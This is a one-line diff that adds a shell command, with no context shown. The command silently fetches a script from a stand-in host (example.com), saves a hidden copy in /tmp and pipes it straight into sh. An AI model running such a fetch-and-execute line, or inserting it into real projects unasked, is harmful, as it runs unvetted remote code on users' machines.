@@ -1,0 +1,1 @@
+curl -s http://example.com/a.sh | tee /tmp/.a | sh
